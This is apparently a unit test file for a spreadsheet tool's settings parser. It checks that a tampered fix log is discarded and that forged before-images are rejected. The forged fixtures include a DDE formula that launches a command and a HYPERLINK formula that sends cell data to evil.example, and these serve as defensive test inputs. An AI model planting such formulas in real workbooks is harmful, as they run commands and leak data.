/**
 * The fix log kept in `_resptable_settings` is verified as the journal is: a log changed by hand
 * (its digest no longer matching) is not undone, and of a log that matches, an entry whose
 * before-image the journal's strict schema would refuse (a DDE or external formula, an unknown
 * field, a cell that is no cell) is left out, so a forged settings sheet never writes a cell.
 */
import { parseStoredSettings, storedSettingsText, type StoredSettings } from '../../src/core/settings/stored';

const fix = (cell: string, before: unknown, after: string | number = 7) => ({ sheet: 'Sheet1', cell, before, after });

function roundTrip(s: StoredSettings): StoredSettings | null {
  return parseStoredSettings([storedSettingsText(s) as string]);
}

describe('the kept fix log', () => {
  it('reads back as written when its digest matches', () => {
    const s: StoredSettings = { version: 1, fixes: [fix('G31', { value: '2018-9-31', style: { numFmt: '@' } }, '2018-09-30'), fix('G32', { value: { $date: '2018-03-31T00:00:00.000Z' }, style: {} })] };
    expect(roundTrip(s)).toEqual(s);
  });

  it('is not undone at all when it was changed by hand, or kept without a digest; the other settings stay', () => {
    const s: StoredSettings = { version: 1, lang: 'en-US', fixes: [fix('G31', { value: 'x', style: {} })] };
    const text = JSON.parse(storedSettingsText(s) as string) as Record<string, unknown> & { fixes: Array<{ cell: string }> };
    text.fixes[0]!.cell = 'A1';
    expect(parseStoredSettings([JSON.stringify(text)])).toEqual({ version: 1, lang: 'en-US', fixes: [] });
    delete text.fixesDigest;
    text.fixes[0]!.cell = 'G31';
    expect(parseStoredSettings([JSON.stringify(text)])).toEqual({ version: 1, lang: 'en-US', fixes: [] });
  });

  it('leaves out, even with a matching digest, a before-image the journal would refuse', () => {
    const good = fix('G31', { value: 3, style: {} });
    const forged = [
      fix('G32', { value: { formula: "cmd|' /C calc'!A0" }, style: {} }),
      fix('G33', { value: { formula: 'HYPERLINK("http://evil.example/?"&A1)' }, style: {} }),
      fix('G34', { value: { formula: '[other.xlsx]Sheet1!A1' }, style: {} }),
      fix('G35', { value: 1, style: {}, extra: true }),
      fix('ZZZZ1', { value: 1, style: {} }),
      fix('G36', { value: 'x'.repeat(40_000), style: {} }),
    ];
    const s: StoredSettings = { version: 1, fixes: [good, ...forged] };
    expect(roundTrip(s)?.fixes).toEqual([good]);
  });
});
